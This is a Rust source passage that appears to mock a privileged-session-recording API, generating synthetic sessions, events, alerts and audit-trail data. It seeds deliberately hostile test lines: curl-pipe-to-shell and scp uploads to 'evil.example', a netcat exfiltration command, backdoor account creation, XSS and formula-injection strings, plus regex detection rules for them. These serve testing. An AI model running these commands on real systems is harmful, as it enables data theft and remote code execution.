            "system_id": 1 + u64::from(self.server) ,
            "system_name": self.server(t).map(|s| s.name.as_str()).unwrap_or(""),
        })
    }

    fn scripted_results(&self) -> Value {
        if self.flags & FLAG_SCRIPTED != 0 {
            json!({ "clockmaster": "True: keystroke timing too regular" })
        } else {
            json!({})
        }
    }

    fn window_title_extracted(&self) -> bool {
        !self.is_terminal() && self.protocol != 4 && self.indexed()
    }

    /// `recording.audit_trail` of a session with a trail.
    fn audit_trail_json(&self, base: &str) -> Option<Value> {
        if !self.has_trail() {
            return None;
        }
        let archive = if self.archived() {
            json!({
                "date": iso_utc(self.start_ms + 86_400_000),
                "path": "archive/",
                "policy": "8106930065bf7eb4c3cf59",
                "server": "\\\\10.20.30.40\\archive\\abc123 (user: myuser)",
            })
        } else {
            Value::Null
        };
        Some(json!({ "archive": archive, "download": { "href": format!("{base}/audit_trail") } }))
    }
}

/// What a real `fields=*` list item leaves out of the full body (recorded:
/// `../shared/real-sps/README.md`, difference 4): top-level keys.
pub const LIST_ITEM_OMITS: &[&str] = &[
    "alerts",
    "channels",
    "events",
    "indexing",
    "trail_downloads",
    "hidden",
    "phantom",
    "revision",
];
/// ... and keys under `recording`.
pub const LIST_ITEM_OMITS_RECORDING: &[&str] = &[
    "audit_trail",
    "server_local",
    "target",
    "has_accepted_channel",
];

/// A real body as a `fields=*` list item carries it: without the
/// sub-resource links, flags and parts of [`LIST_ITEM_OMITS`],
/// [`LIST_ITEM_OMITS_RECORDING`] and `analytics.scripted_results`.
pub fn list_item_body(mut body: Value) -> Value {
    if let Value::Object(map) = &mut body {
        for key in LIST_ITEM_OMITS {
            map.remove(*key);
        }
        if let Some(Value::Object(recording)) = map.get_mut("recording") {
            for key in LIST_ITEM_OMITS_RECORDING {
                recording.remove(*key);
            }
        }
        if let Some(Value::Object(analytics)) = map.get_mut("analytics") {
            analytics.remove("scripted_results");
        }
    }
    body
}

// ---------------------------------------------------------------------------
// Sub-resources, built on demand from the session seed.

/// One generated event (an item of `/events`).
#[derive(Debug, Clone, PartialEq)]
pub struct GenEvent {
    /// Command line without prompt, or window title.
    pub action: String,
    /// Channel the event happened in.
    pub channel: u32,
    /// The full line (prompt included) or title.
    pub content: String,
    /// Position in the trail.
    pub record_id: u64,
    /// When, UNIX milliseconds.
    pub time_ms: i64,
    /// Microsecond part below the millisecond.
    pub micros: u32,
    /// `command`, `window_title`, `http_request` or `file_transfer`.
    pub kind: &'static str,
}

impl GenEvent {
    /// Wire JSON of the event.
    pub fn to_json(&self) -> Value {
        json!({
            "action": self.action,
            "channels_id": self.channel.to_string(),
            "content": self.content,
            "record_id": self.record_id,
            "time": iso_naive(self.time_ms, self.micros),
            "type": self.kind,
        })
    }
}

const COMMANDS: &[&str] = &[
    "ls -la",
    "cd /var/log",
    "tail -f syslog",
    "cat /etc/os-release",
    "df -h",
    "free -m",
    "top",
    "ps aux | grep java",
    "vim /etc/nginx/nginx.conf",
    "systemctl status nginx",
    "journalctl -xe",
    "git pull",
    "docker ps",
    "kubectl get pods -A",
    "uptime",
    "whoami",
    "id",
    "history",
    "grep -r password /etc",
    "man iptables",
    "exit",
];
const TITLES: &[&str] = &[
    "Server Manager",
    "Event Viewer",
    "Administrator: Command Prompt",
    "Windows PowerShell",
    "Active Directory Users and Computers",
    "Services",
    "Task Manager",
    "Registry Editor",
    "Notepad - C:\\Windows\\System32\\drivers\\etc\\hosts",
    "SQL Server Management Studio",
    "Remote Desktop Connection",
    "Google Chrome",
    "Untitled - Paint",
];
const HTTP_PATHS: &[&str] = &[
    "GET /admin/",
    "GET /admin/users",
    "POST /admin/users/42/reset-password",
    "GET /api/v1/status",
    "DELETE /admin/cache",
    "GET /login?next=%2Fadmin",
];

/// The command or title an interesting-event bit stands for.
fn interesting_command(i: usize) -> &'static str {
    match i {
        0 => "sudo -i",
        1 => "su - postgres",
        2 => "rm -rf /tmp/build",
        3 => "passwd oracle",
        4 => "ssh db-01.prod.example.com",
        5 => "systemctl restart sshd",
        6 => "iptables -F",
        7 => "useradd -m backdoor",
        8 => "chmod 777 /etc/shadow",
        9 => "cmd.exe",
        10 => "powershell.exe -enc SQBFAFgA",
        11 => "regedit.exe",
        12 => "mmc.exe",
        13 => "scp secrets.tar.gz evil.example:",
        14 => "curl http://evil.example/x.sh | sh",
        _ => "echo <script>alert(1)</script>",
    }
}

fn detail_rng(s: &GenSession, salt: u64) -> ChaCha8Rng {
    ChaCha8Rng::seed_from_u64(mix(s.seed ^ salt))
}

/// A few 10,000-character lines, built once: building one per event made
/// content search over 100k sessions spend its time writing lorem ipsum.
fn long_line(n: u64) -> String {
    static LINES: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
    let lines = LINES.get_or_init(|| (0..4).map(hostile::long_line).collect());
    lines.get((n % 4) as usize).cloned().unwrap_or_default()
}

fn pick_hostile(rng: &mut ChaCha8Rng) -> String {
    match rng.gen_range(0..60) {
        0 => long_line(rng.gen()),
        1..=9 => hostile::CSV_FORMULAS[rng.gen_range(0..hostile::CSV_FORMULAS.len())].to_owned(),
        10..=18 => hostile::UNICODE[rng.gen_range(0..hostile::UNICODE.len())].to_owned(),
        _ => {
            let xss = hostile::xss();
            xss[rng.gen_range(0..xss.len())].to_owned()
        }
    }
}

/// Channels of a session, as wire JSON bodies (key = position, from 1).
pub fn channels(s: &GenSession) -> Vec<Value> {
    let mut rng = detail_rng(s, 0xC4A7);
    let start = s.start_ms / 1000;
    let dur = i64::from(s.duration);
    let end = s.end_ms().map(|e| e / 1000);
    let mut out = Vec::new();
    let verdict_ok = s.verdict <= 1;
    let mut push = |typ: &str, extra: Value, rng: &mut ChaCha8Rng, main: bool| {
        let cs = if main {
            start
        } else {
            start + rng.gen_range(0..=dur.max(0))
        };
        let ce = match end {
            None if main || rng.gen_bool(0.5) => None,
            _ => Some((cs + rng.gen_range(0..=(start + dur - cs).max(0))).max(cs)),
        };
        let verdict = if !verdict_ok && main {
            "deny"
        } else if rng.gen_ratio(1, 15) {
            ["deny", "four-eyes-reject", "four-eyes-timeout"][rng.gen_range(0..3)]
        } else {
            "accept"
        };
        let mut body = Map::new();
        body.insert("active".into(), Value::Bool(ce.is_none()));
        if s.has_trail() {
            body.insert(
                "audit_stream_id".into(),
                format!("{:x}", rng.gen::<u32>()).into(),
            );
        }
        body.insert("channel_id".into(), (out.len() as u64 + 1).into());
        body.insert(
            "duration".into(),
            ce.map(|e| e - cs).unwrap_or(start + dur - cs).into(),
        );
        body.insert("end_time".into(), ce.map(|e| iso_local(e * 1000)).into());
        body.insert("rule_num".into(), rng.gen_range(1..6).to_string().into());
        body.insert("start_time".into(), iso_local(cs * 1000).into());
        body.insert("type".into(), typ.into());
        body.insert("verdict".into(), verdict.into());
        if rng.gen_ratio(1, 25) {
            body.insert("four_eyes_authorizer".into(), "security.officer".into());
            body.insert("four_eyes_description".into(), pick_hostile(rng).into());
        }
        if let Value::Object(m) = extra {
            body.extend(m);
        }
        out.push(Value::Object(body));
    };
    match s.protocol {
        0 => {
            push("session shell", json!({}), &mut rng, true);
            if rng.gen_ratio(1, 3) {
                let cmd = if rng.gen_ratio(1, 5) {
                    pick_hostile(&mut rng)
                } else {
                    "uname -a".into()
                };
                push("session exec", json!({ "command": cmd }), &mut rng, false);
            }
            if rng.gen_ratio(1, 5) {
                push(
                    "session exec scp",
                    json!({ "scp_path": "/home/deploy/releases" }),
                    &mut rng,
                    false,
                );
            }
            if rng.gen_ratio(1, 5) {
                push(
                    "session subsystem sftp",
                    json!({ "subsystem_name": "sftp" }),
                    &mut rng,
                    false,
                );
            }
            if rng.gen_ratio(1, 8) {
                for typ in ["local forward", "remote forward"] {
                    push(
                        typ,
                        json!({
                            "originator.ip": "::1", "originator.name": "localhost",
                            "originator.port": rng.gen_range(30_000..60_000),
                            "connected.ip": "10.1.2.3", "connected.name": "db-01.prod.example.com",
                            "connected.port": 5432,
                        }),
                        &mut rng,
                        false,
                    );
                }
            }
            if rng.gen_ratio(1, 10) {
                push("x11 forward", json!({}), &mut rng, false);
            }
        }
        1 => {
            push("drawing", json!({}), &mut rng, true);
            for (typ, extra) in [
                ("sound", json!({})),
                ("clipboard", json!({})),
                (
                    "dynamic virtual",
                    json!({ "dynamic_channel": "Microsoft::Windows::RDS::Geometry::v08.01" }),
                ),
                ("disk redirect", json!({ "device_name": "J:" })),
                ("printer redirect", json!({ "device_name": "PRN22" })),
                ("scard redirect", json!({ "device_name": "SCARD" })),
                ("serial redirect", json!({ "device_name": "COM1" })),
                ("parallel redirect", json!({ "device_name": "LPT1" })),
                ("seamless", json!({})),
                ("custom", json!({})),
            ] {
                if rng.gen_ratio(1, 3) {
                    push(typ, extra, &mut rng, false);
                }
            }
        }
        5 => {
            push("drawing", json!({}), &mut rng, true);
            let apps = [
                "SAP Logon",
                "Excel",
                "<img src=x onerror=alert('ica')>",
                "cmd.exe",
            ];
            let app = apps[rng.gen_range(0..apps.len())];
            push("seamless", json!({ "application": app }), &mut rng, false);
        }
        2 => push("terminal", json!({}), &mut rng, true),
        3 => push("drawing", json!({}), &mut rng, true),
        _ => push("http", json!({}), &mut rng, true),
    }
    out
}

/// Events of a session (empty unless indexed, as the reference says).
pub fn events(s: &GenSession, key: &str, t: &Tables) -> Vec<GenEvent> {
    if !s.indexed() {
        return Vec::new();
    }
    let mut rng = detail_rng(s, 0xE7E7);
    let n = rng.gen_range(3..30usize);
    let mut lines: Vec<String> = (0..n)
        .map(|_| {
            if rng.gen_ratio(1, 6) {
                return pick_hostile(&mut rng);
            }
            match s.protocol {
                0 | 2 => COMMANDS[rng.gen_range(0..COMMANDS.len())].to_owned(),
                4 => HTTP_PATHS[rng.gen_range(0..HTTP_PATHS.len())].to_owned(),
                _ => TITLES[rng.gen_range(0..TITLES.len())].to_owned(),
            }
        })
        .collect();
    for i in 0..INTERESTING.len() {
        if s.interesting & (1 << i) != 0 {
            let at = rng.gen_range(0..=lines.len());
            lines.insert(at, interesting_command(i).to_owned());
        }
    }
    let burst = triage_lines(s, &mut lines);
    let user = s.server_username(t);
    let host = s.server(t).map(|x| x.name.as_str()).unwrap_or("host");
    let kind = match s.protocol {
        0 | 2 => "command",
        4 => "http_request",
        _ => "window_title",
    };
    let times = event_times(s, lines.len(), burst);
    let _ = key;
    lines
        .into_iter()
        .zip(times)
        .enumerate()
        .map(|(i, (line, time_ms))| {
            let kind = if kind == "command" && line.starts_with("scp ") {
                "file_transfer"
            } else {
                kind
            };
            let content = if kind == "command" || kind == "file_transfer" {
                let cwd = ["~", "/var/log", "/etc", "/tmp"][i % 4];
                format!("{user}@{host}:{cwd}$ {line}")
            } else {
                line.clone()
            };
            GenEvent {
                action: line,
                channel: if s.protocol == 0 {
                    1
                } else {
                    1 + (i % 2) as u32
                },
                content,
                record_id: 10 + i as u64 * 17,
                time_ms,
                micros: rng.gen_range(0..1000),
                kind,
            }
        })
        .collect()
}

/// Lines of a burst on a terminal: each matches the noisy `sudo` rule.
const BURST_COMMANDS: &[&str] = &[
    "sudo -i",
    "sudo systemctl restart nginx",
    "sudo cat /etc/shadow",
    "sudo journalctl -u sshd",
    "sudo tail -n 200 /var/log/auth.log",
];
/// Window titles of a burst on a desktop: each matches a `PatternMatcherRule`.
const BURST_TITLES: &[&str] = &[
    "Administrator: cmd.exe",
    "Windows PowerShell - powershell.exe",
    "Registry Editor - regedit",
];
/// The one line of the rare rule (`DataExfiltration`).
const RARE_COMMAND: &str = "tar czf - /home | nc 203.0.113.9 4444";

/// Whether the session's gateway user is one of the few noisy ones (about
/// one user in 16) whose sessions burst far more often.
pub fn noisy_user(s: &GenSession) -> bool {
    s.user % 16 == 3
}

/// Lines that make triage across sessions meaningful, only where alerts are
/// stored: a burst (several lines that raise alerts within seconds; half of
/// the noisy users' sessions, one in 12 of the others') and, in about one
/// terminal session in 150, the rare rule's line. A separate random stream,
/// so the other lines stay what they were. Returns where the burst starts
/// and how long it is.
fn triage_lines(s: &GenSession, lines: &mut Vec<String>) -> Option<(usize, usize)> {
    if !s.has_content_policy() || s.protocol == 4 {
        return None;
    }
    let mut rng = detail_rng(s, 0x7E1A6E);
    if s.is_terminal() && rng.gen_ratio(1, 150) {
        let at = rng.gen_range(0..=lines.len());
        lines.insert(at, RARE_COMMAND.to_owned());
    }
    let odds = if noisy_user(s) { (1, 2) } else { (1, 12) };
    if !rng.gen_ratio(odds.0, odds.1) {
        return None;
    }
    let pool = if s.is_terminal() {
        BURST_COMMANDS
    } else {
        BURST_TITLES
    };
    let len = rng.gen_range(3..=7usize);
    let at = rng.gen_range(1..=lines.len());
    for k in 0..len {
        let line = pool[rng.gen_range(0..pool.len())];
        lines.insert(at + k, line.to_owned());
    }
    Some((at, len))
}

/// Event times: spread evenly over the session, except a burst's lines,
/// which follow the line before them a second or so apart (closer when the
/// next line comes sooner), so the times stay in record order.
fn event_times(s: &GenSession, n: usize, burst: Option<(usize, usize)>) -> Vec<i64> {
    let span = i64::from(s.duration.max(1)) * 1000;
    let (at, len) = burst.unwrap_or((n, 0));
    let base = (n - len) as i64;
    let even = |i: usize| s.start_ms + span * (i as i64 + 1) / (base + 1);
    let mut times: Vec<i64> = (0..n - len).map(even).collect();
    if len > 0 {
        let before = if at == 0 { s.start_ms } else { times[at - 1] };
        let after = times.get(at).copied().unwrap_or(s.start_ms + span);
        let step = ((after - before) / (len as i64 + 1)).clamp(0, 1200);
        let burst_times = (1..=len as i64).map(|k| before + k * step);
        times.splice(at..at, burst_times);
    }
    times
}

/// A content-policy rule: `regexp` really matches every text containing `trigger`.
struct Rule {
    trigger: &'static str,
    regexp: &'static str,
    name: &'static str,
}

const RULES: &[Rule] = &[
    Rule {
        trigger: "| nc ",
        regexp: "\\|\\s*nc\\s+\\S+\\s+\\d+",
        name: "DataExfiltration",
    },
    Rule {
        trigger: "sudo",
        regexp: "sudo",
        name: "PrivilegeEscalation",
    },
    Rule {
        trigger: "su - ",
        regexp: "su\\s+-",
        name: "PrivilegeEscalation",
    },
    Rule {
        trigger: "rm -rf",
        regexp: "rm\\s+-rf",
        name: "DestructiveCommand",
    },
    Rule {
        trigger: "passwd",
        regexp: "passwd",
        name: "CredentialChange",
    },
    Rule {
        trigger: "iptables -F",
        regexp: "iptables\\s+-F",
        name: "FirewallFlush",
    },
    Rule {
        trigger: "useradd",
        regexp: "user(add|mod)",
        name: "AccountCreated",
    },
    Rule {
        trigger: "chmod 777",
        regexp: "chmod\\s+[0-7]*7{2}",
        name: "PatternMatcherRule",
    },
    Rule {
        trigger: "powershell.exe",
        regexp: "(?i)powershell(\\.exe)?",
        name: "PatternMatcherRule",
    },
    Rule {
        trigger: "regedit",
        regexp: "regedit",
        name: "PatternMatcherRule",
    },
    Rule {
        trigger: "cmd.exe",
        regexp: "cmd\\.exe",
        name: "PatternMatcherRule",
    },
    Rule {
        trigger: "<script>",
        regexp: "<script>",
        name: "ScriptInjection",
    },
    Rule {
        trigger: "curl http",
        regexp: "curl\\s+https?://",
        name: "Download",
    },
    Rule {
        trigger: "=cmd|",
        regexp: "=cmd\\|",
        name: "FormulaInjection",
    },
];

/// Alerts of a session: events whose content a rule matched (only with a
/// content policy that stores alerts), sorted by record id as documented.
pub fn alerts(s: &GenSession, key: &str, t: &Tables) -> Vec<Value> {
    if !s.has_content_policy() {
        return Vec::new();
    }
    let mut out = Vec::new();
    for e in events(s, key, t) {
        for r in RULES {
            if e.content.contains(r.trigger) {
                let alert_type = match e.kind {
                    "window_title" => "adp.event.screen.windowtitle",
                    "command" | "file_transfer" => "adp.event.command",
                    _ => "adp.event.screen.content",
                };
                out.push(json!({
                    "alert_type": alert_type,
                    "channel_id": e.channel.to_string(),
                    "matched_action": e.action,
                    "matched_content": e.content,
                    "matched_regexp": r.regexp,
                    "record_id": e.record_id,
                    "rule_name": r.name,
                    "time": iso_naive(e.time_ms, e.micros),
                }));
                break;
            }
        }
    }
    out
}

/// Indexing details (one item when the indexer ran).
pub fn indexing(s: &GenSession) -> Vec<Value> {
    let status = match s.index_status {
        IDX_INDEXED => "COMPLETED",
        IDX_IN_PROGRESS => "IN_PROGRESS",
        IDX_FAILED => "FAILED",
        1 => "QUEUED",
        _ => return Vec::new(),
    };
    let mut rng = detail_rng(s, 0x1D3);
    let end_ms = s.end_ms().unwrap_or(s.start_ms);
    vec![json!({
        "config": {
            "command": { "enabled": s.is_terminal() },
            "keyboard": { "buffer_interval": 3, "enabled": false },
            "mouse": { "buffer_interval": 1, "enabled": false },
            "near_realtime": false,
            "ocr_languages": if s.is_terminal() { json!([]) } else { json!(["eng", "hun"]) },
            "screen": { "enabled": true, "omnipage_trade_off": "TO_ACCURATE" },
            "title": { "enabled": !s.is_terminal() },
        },
        "statistics": {
            "cpu_time": rng.gen_range(1..120),
            "duration": rng.gen_range(5..600),
            "start_time": end_ms + rng.gen_range(1_000..600_000),
        },
        "status": status,
        "version": { "adp": "6.0.20", "worker": "4.0.26" },
    })]
}

/// Audit-trail downloads of a session.
pub fn trail_downloads(s: &GenSession) -> Vec<Value> {
    if !s.has_trail() {
        return Vec::new();
    }
    let mut rng = detail_rng(s, 0xD0A1);
    let n = match rng.gen_range(0..10) {
        0..=6 => 0,
        7 | 8 => 1,
        _ => rng.gen_range(2..5),
    };
    let who = ["admin", "auditor", "<b>bob</b>", "security.officer"];
    let base = s.end_ms().unwrap_or(s.start_ms);
    (0..n)
        .map(|i| {
            json!({
                "from_api": rng.gen_bool(0.3),
                "ip_address": format!("10.20.30.{}", rng.gen_range(2..250)),
                "time": iso_utc(base + (i + 1) * 3_600_000 + rng.gen_range(0..3_600_000)),
                "username": who[rng.gen_range(0..who.len())],
            })
        })
        .collect()
}

/// Deterministic audit trail bytes (a made-up container, not a real `.zat`).
pub fn audit_trail(s: &GenSession, key: &str, srs: bool) -> Vec<u8> {
    let mut rng = detail_rng(s, if srs { 0x5125 } else { 0x2A7 });
    let len = rng.gen_range(4_096..65_536usize);
    let mut out = Vec::with_capacity(len + 64);
    out.extend_from_slice(if srs { b"SRS\x01" } else { b"ZAT\x01" });
    out.extend_from_slice(key.as_bytes());
    out.push(0);
    let mut buf = vec![0u8; len];
    rng.fill(&mut buf[..]);
    out.extend_from_slice(&buf);
    out
}
